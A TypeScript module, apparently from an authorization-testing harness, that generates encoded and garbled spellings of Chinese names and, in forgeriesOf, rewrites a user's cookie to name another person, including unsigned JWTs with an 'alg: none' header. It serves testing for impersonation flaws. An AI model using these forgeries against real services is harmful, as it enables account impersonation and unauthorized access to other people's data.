import { percentDecoded } from '../../text/decode.ts';
import { userIdOf } from '../center/oauth.ts';
import type { Person } from './world.ts';
/** Returns a name in plain text and in the escapes of JSON and scripts: `\u674e`, `\u674E`. */
export function spellingsOf(name: string): readonly string[] {
  const hex = (code: number) => code.toString(16).padStart(4, '0');
  return [
    name,
    withoutChinese(name, (code) => `\\u${hex(code)}`),
    withoutChinese(name, (code) => `\\u${hex(code).toUpperCase()}`),
  ];
}

/**
 * Returns a Chinese name whose UTF-8 was read as Latin-1 or as GBK, or that was escaped twice. Each form still identifies
 * its owner.
 */
export function misreadingsOf(name: string): readonly string[] {
  const bytes = Buffer.from(name, 'utf8');
  const [latin1, western, chinese] = [
    bytes.toString('latin1'),
    new TextDecoder('windows-1252').decode(bytes),
    new TextDecoder('gb18030').decode(bytes),
  ];
  return [
    latin1,
    western,
    chinese,
    Buffer.from(latin1, 'utf8').toString('latin1'),
    withoutChinese(name, (code) => `&#${code};`),
  ];
}

/** Matches a Chinese name in an encoding without Chinese: a mark for each character or byte. */
export function lostName(name: string): RegExp {
  const [chinese, rest] = [name.replace(/[ -~]/g, ''), name.replace(/[^ -~]/g, '')];
  const marks = chinese.length;
  return new RegExp(`(?<![?\\ufffd])(?:[?\\ufffd]{${marks}}){1,3}${rest}`);
}

function withoutChinese(name: string, toEscape: (code: number) => string): string {
  return name.replace(/[^ -~]/gu, (character) => toEscape(character.codePointAt(0) ?? 0));
}

type Names = readonly (readonly [own: string, other: string])[];

/** Rewrites a cookie of someone to name another person: with the signature as it is, and as a JWT without one. */
export function forgeriesOf(value: string, own: Person, other: Person): readonly string[] {
  const others = textsOf(other);
  const names = textsOf(own).map((text, index) => [text, others[index] ?? ''] as const);
  const signed = (['base64url', 'base64'] as const).flatMap((encoding) => {
    const changed = rewritten(value, names, encoding);
    return changed === value ? [] : [changed];
  });
  const header = Buffer.from('{"alg":"none","typ":"JWT"}').toString('base64url');
  const unsigned = signed.flatMap((one) => /^[\w-]+(\.[\w-]+\.)[\w-]*$/.exec(one)?.[1] ?? []);
  return [...new Set([...signed, ...unsigned.map((payload) => header + payload)])];
}

function textsOf({ organisation: { id, code, name: company }, userName, name, mobile }: Person): string[] {
  return [id, code, company, userIdOf(id, userName), userName, ...spellingsOf(name), mobile];
}

/** Replaces names in a text, also where it is encoded once or several times. */
function rewritten(text: string, names: Names, base64: 'base64' | 'base64url'): string {
  const decoded = percentDecoded(text);
  if (decoded !== text) {
    const changed = rewritten(decoded, names, base64);
    return changed === decoded ? text : encodeURIComponent(changed);
  }
  const plain = names.reduce((rest, [own, other]) => rest.replaceAll(own, other), text);
  return plain.replace(/[\w+/-]{8,}={0,2}/g, (token) => {
    const inside = Buffer.from(token, base64).toString();
    const changed = rewritten(inside, names, base64);
    return changed === inside ? token : Buffer.from(changed).toString(base64);
  });
}
